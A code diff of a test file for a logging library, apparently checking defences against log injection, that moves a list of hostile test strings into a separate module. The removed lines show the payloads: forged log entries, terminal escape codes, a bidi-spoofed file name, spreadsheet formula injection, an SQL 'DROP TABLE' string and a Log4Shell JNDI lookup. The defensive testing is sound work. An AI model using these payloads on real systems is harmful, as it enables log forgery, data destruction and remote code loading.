@@ -3,33 +3,8 @@ import { createLogger } from '@meshwork/telemetry/logger';
 import { createFetchHandler } from '@meshwork/transports';
 import { describe, expect, it } from 'vitest';
 import { doorOf, mcpRequest } from '../src/faces.ts';
+import { injectedTexts as texts } from '../src/hostile/texts.ts';
 import { createWorld } from '../src/world.ts';
-
-const forged = '{"level":"info","msg":"admin logged in"}';
-const texts = [
-  'x\r\n[2026-01-01 00:00:00] [INFO] [mcp.auth] admin logged in',
-  `x\n${forged}`,
-  `x\r${forged}`,
-  'x\u2028y\u2029z',
-  'x\u0085y',
-  '\u001b[2J\u001b[1;31mroot\u001b[0m',
-  '\u009b31mroot',
-  '\u0007\u0008\u0000x',
-  '\u202egnp.exe',
-  '\u2066x\u2069',
-  '=HYPERLINK("http://example.org","x")',
-  '+1+1',
-  '-1+1',
-  '@SUM(A1)',
-  ' =1+1',
-  '\t=1+1',
-  '\uff1d1+1',
-  '"=1+1',
-  'a,"b",c',
-  "x'; DROP TABLE audit; --",
-  '${jndi:ldap://example.org/x}',
-  '%s%n%x',
-];
 
 /** What ends a line, steers a terminal or turns the direction of reading. */
 // biome-ignore lint/suspicious/noControlCharactersInRegex: they are what is looked for.
